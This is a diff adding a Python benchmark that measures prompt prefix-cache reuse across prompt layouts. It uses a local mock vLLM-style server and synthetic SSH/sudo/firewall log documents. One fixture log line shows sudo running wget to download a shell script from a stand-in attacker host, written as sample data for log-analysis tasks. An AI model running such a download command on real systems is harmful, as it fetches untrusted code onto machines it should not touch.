@@ -0,0 +1,182 @@
+"""
+prompt 布局前缀复用基准：本地 mock 服务模拟 vLLM 的块级前缀缓存（Automatic Prefix Caching），
+统计不同 prompt_layout 下各请求可复用的共享前缀 token 数
+
+- 按 ChatML 模板拼接 messages，每个字符计为 1 个 token
+- 每 16 个 token 为一块，块哈希包含前缀所有块的哈希，命中的连续完整块计为缓存 token
+- 工作负载：多篇文档，每篇文档上执行多个 hop_get / hop_judge 任务并逆向核验
+
+运行（在仓库根目录下）：python -m benchmarks.bench_prompt_prefix
+"""
+
+import json
+import logging
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+from hop_engine.config.constants import PROMPT_LAYOUTS, HopStatus
+from hop_engine.config.model_config import ModelConfig
+from hop_engine.processors.hop_processor import HopProc
+from hop_engine.utils.utils import LoggerUtils
+
+BLOCK_SIZE = 16
+
+
+class PrefixCacheServer(BaseHTTPRequestHandler):
+    """OpenAI 兼容的 mock 服务，按块哈希模拟前缀缓存并在 usage 中返回 cached_tokens"""
+
+    protocol_version = "HTTP/1.1"
+    lock = threading.Lock()
+    blocks = set()
+    prompt_tokens = 0
+    cached_tokens = 0
+    requests = 0
+
+    @classmethod
+    def reset(cls):
+        with cls.lock:
+            cls.blocks = set()
+            cls.prompt_tokens = cls.cached_tokens = cls.requests = 0
+
+    @staticmethod
+    def render(messages):
+        return (
+            "".join(
+                f"<|im_start|>{m['role']}\n{m['content']}<|im_end|>\n" for m in messages
+            )
+            + "<|im_start|>assistant\n"
+        )
+
+    @classmethod
+    def lookup(cls, prompt: str) -> int:
+        """返回命中的前缀 token 数，并将本次请求的完整块写入缓存"""
+        cached, hit, parent = 0, True, None
+        with cls.lock:
+            for start in range(0, len(prompt) - BLOCK_SIZE + 1, BLOCK_SIZE):
+                parent = hash((parent, prompt[start : start + BLOCK_SIZE]))
+                if hit and parent in cls.blocks:
+                    cached += BLOCK_SIZE
+                else:
+                    hit = False
+                    cls.blocks.add(parent)
+            cls.requests += 1
+            cls.prompt_tokens += len(prompt)
+            cls.cached_tokens += cached
+        return cached
+
+    def log_message(self, *args):
+        pass
+
+    def do_POST(self):
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        prompt = self.render(body["messages"])
+        cached = self.lookup(prompt)
+        # 逆向核验返回 HopStatus 名称，其余任务返回研判结论
+        answer = "OK" if "逆向核验" in prompt else "True"
+        content = json.dumps({"explanation": "mock", "final_answer": answer})
+        data = json.dumps(
+            {
+                "id": "mock",
+                "object": "chat.completion",
+                "created": 0,
+                "model": body["model"],
+                "choices": [
+                    {
+                        "index": 0,
+                        "finish_reason": "stop",
+                        "message": {"role": "assistant", "content": content},
+                    }
+                ],
+                "usage": {
+                    "prompt_tokens": len(prompt),
+                    "completion_tokens": len(content),
+                    "total_tokens": len(prompt) + len(content),
+                    "prompt_tokens_details": {"cached_tokens": cached},
+                },
+            }
+        ).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+
+def build_documents(count: int = 6):
+    lines = [
+        "{day} 10:{m:02d}:13 sshd[{pid}]: Failed password for root from 203.0.113.{ip} port {port} ssh2",
+        "{day} 10:{m:02d}:15 sshd[{pid}]: Accepted password for admin from 198.51.100.{ip} port {port} ssh2",
+        "{day} 10:{m:02d}:20 sudo: admin : TTY=pts/0 ; PWD=/home/admin ; COMMAND=/usr/bin/wget http://evil.example/{pid}.sh",
+        "{day} 10:{m:02d}:31 kernel: [UFW BLOCK] IN=eth0 SRC=192.0.2.{ip} DST=10.0.0.5 PROTO=TCP DPT={port}",
+    ]
+    documents = []
+    for doc in range(count):
+        documents.append(
+            "\n".join(
+                line.format(
+                    day=f"Oct {doc + 1:02d}",
+                    m=i % 60,
+                    pid=1000 + doc * 100 + i,
+                    ip=(doc * 37 + i) % 250,
+                    port=20000 + i,
+                )
+                for i in range(30)
+                for line in lines
+            )
+        )
+    return documents
+
+
+# (算子, 任务, explanation_description)，不同任务的返回格式说明各不相同
+TASKS = [
+    ("hop_get", "提取所有失败登录的来源IP", "列出来源IP及失败次数"),
+    ("hop_get", "提取被下载的可疑脚本地址", "说明脚本地址出现的日志行"),
+    ("hop_get", "提取登录成功的账号", "说明账号对应的来源IP"),
+    ("hop_judge", "是否存在暴力破解后登录成功的行为", ""),
+    ("hop_judge", "是否存在通过sudo下载外部脚本的行为", "说明判断依据"),
+]
+
+
+def run_workload(proc: HopProc, documents):
+    for context in documents:
+        for operator, task, description in TASKS:
+            status, result = getattr(proc, operator)(
+                task,
+                context,
+                return_format=str if operator == "hop_get" else None,
+                explanation_description=description,
+            )
+            assert status == HopStatus.OK, (operator, status, result)
+
+
+def bench():
+    LoggerUtils.get_logger().setLevel(logging.WARNING)
+    server = ThreadingHTTPServer(("127.0.0.1", 0), PrefixCacheServer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    config = ModelConfig(
+        model="mock",
+        openai_api_key="mock",
+        openai_base_url=f"http://127.0.0.1:{server.server_port}/v1",
+        inference_engine="vllm",
+    )
+    documents = build_documents()
+
+    print(f"{len(documents)} documents x {len(TASKS)} tasks, block size {BLOCK_SIZE}")
+    print(
+        f"{'layout':<16}{'requests':>10}{'prompt tokens':>16}"
+        f"{'cached tokens':>16}{'hit rate':>10}"
+    )
+    for layout in PROMPT_LAYOUTS:
+        PrefixCacheServer.reset()
+        proc = HopProc(config, config, prompt_layout=layout)
+        run_workload(proc, documents)
+        stats = PrefixCacheServer
+        print(
+            f"{layout:<16}{stats.requests:>10}{stats.prompt_tokens:>16}"
+            f"{stats.cached_tokens:>16}{stats.cached_tokens / stats.prompt_tokens:>9.1%}"
+        )
+    server.shutdown()
+
+
+if __name__ == "__main__":
+    bench()